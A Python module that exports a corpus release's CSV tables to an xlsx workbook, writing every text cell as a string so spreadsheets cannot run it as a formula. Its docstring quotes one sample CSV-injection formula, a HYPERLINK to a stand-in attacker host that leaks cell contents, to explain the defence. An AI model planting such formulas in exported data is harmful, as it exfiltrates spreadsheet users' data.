"""The spreadsheet view of a release: its tables as one ``tables.xlsx``, safe to open in a spreadsheet.

The canonical tables are the CSV files: exact text, so that every character can be traced to its
offsets in the raw seed. A spreadsheet that opens a CSV file runs a cell starting with ``=``,
``+``, ``-`` or ``@`` as a formula (``=HYPERLINK("http://evil.example/?leak="&A1,"Click me")``),
and page text decides how a cell starts: escaping the CSV would break provenance, so the CSV stays
exact and spreadsheet users get this workbook instead. Every text cell is written as a string
cell (XlsxWriter's ``write_string``: never parsed as a formula, number, date or link); integer and
number fields are numbers. One sheet per table, named after its resource; a table longer than a
sheet continues on ``<name> (2)``. A cell over the spreadsheet limit of 32,767 characters is cut
and ends with a note naming the CSV file that holds it whole.

The bytes are reproducible: the document's dates are the release date and XlsxWriter stamps its
zip entries with a fixed date.
"""

from __future__ import annotations

import datetime as dt
import io
from collections.abc import Sequence
from typing import Any

from corpus.release.resources import csv_rows, field_names, is_tabular, resource_paths

SPREADSHEET = "tables.xlsx"
#: Limits of the xlsx format (Excel and LibreOffice).
MAX_CELL = 32_767
MAX_ROWS = 1_048_576
MAX_SHEET_NAME = 31
NUMERIC = frozenset({"integer", "number"})


def _cut(value: str, path: str) -> str:
    if len(value) <= MAX_CELL:
        return value
    note = f" […cut: {len(value):,} characters in all; the whole text is in {path}]"
    return value[: MAX_CELL - len(note)] + note


def _number(value: str, kind: str) -> float | None:
    """A numeric cell as a number, or None to keep it as text (empty, or not a plain number)."""
    text = value.strip()
    if not text or not text.isascii():
        return None
    try:
        number = int(text) if kind == "integer" else float(text)
    except ValueError:
        return None
    return float(number) if abs(number) < 2**53 else None  # beyond this a spreadsheet would round it


def _sheet_names(name: str, rows: int) -> list[str]:
    parts = max(1, -(-rows // (MAX_ROWS - 1)))
    base = name[:MAX_SHEET_NAME]
    return [base if i == 0 else f"{base[: MAX_SHEET_NAME - 5]} ({i + 1})" for i in range(parts)]


def _write_table(workbook: Any, resource: dict[str, Any], data: bytes) -> None:
    path = resource_paths(resource)[0]
    header, rows = csv_rows(data, where=path)
    kinds = {f.get("name"): f.get("type", "string") for f in resource["schema"].get("fields", [])}
    bold = workbook.add_format({"bold": True})
    for part, sheet_name in enumerate(_sheet_names(str(resource.get("name")), len(rows))):
        sheet = workbook.add_worksheet(sheet_name)
        for column, name in enumerate(header):
            sheet.write_string(0, column, name, bold)
        chunk = rows[part * (MAX_ROWS - 1) : (part + 1) * (MAX_ROWS - 1)]
        for r, row in enumerate(chunk, start=1):
            for column, (name, value) in enumerate(zip(header, row, strict=False)):
                number = _number(value, kinds.get(name, "string")) if kinds.get(name) in NUMERIC else None
                if number is not None:
                    sheet.write_number(r, column, number)
                elif value:
                    sheet.write_string(r, column, _cut(value, path))
        sheet.freeze_panes(1, 0)


def workbook_bytes(descriptor: dict[str, Any], files: dict[str, bytes], *, title: str, released: dt.date) -> bytes:
    """The workbook of a package's tables (pure).

    Args:
        descriptor: The package descriptor (its tabular resources, in order, become sheets).
        files: The resources' CSV bytes by path.
        title: The workbook's title.
        released: The release date, the workbook's creation date.
    """
    import xlsxwriter

    buffer = io.BytesIO()
    options = {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False, "strings_to_urls": False}
    workbook = xlsxwriter.Workbook(buffer, options)
    stamp = dt.datetime(released.year, released.month, released.day)
    workbook.set_properties({"title": title, "created": stamp, "comments": "CSV files are the canonical tables."})
    for resource in descriptor.get("resources", []):
        paths: Sequence[str] = resource_paths(resource)
        if is_tabular(resource) and len(paths) == 1 and paths[0] in files and field_names(resource):
            _write_table(workbook, resource, files[paths[0]])
    workbook.close()
    return buffer.getvalue()
